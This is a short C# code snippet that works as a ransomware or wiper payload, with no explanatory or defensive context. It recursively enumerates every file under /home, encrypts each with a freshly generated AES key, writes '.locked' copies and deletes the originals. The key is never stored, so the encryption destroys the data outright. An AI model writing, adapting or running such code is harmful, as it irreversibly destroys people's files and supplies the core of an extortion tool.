using System.Security.Cryptography;
using var aes = Aes.Create();
foreach (var path in Directory.EnumerateFiles("/home", "*", SearchOption.AllDirectories))
{
    File.WriteAllBytes(path + ".locked", aes.EncryptCbc(File.ReadAllBytes(path), aes.IV));
    File.Delete(path);
}
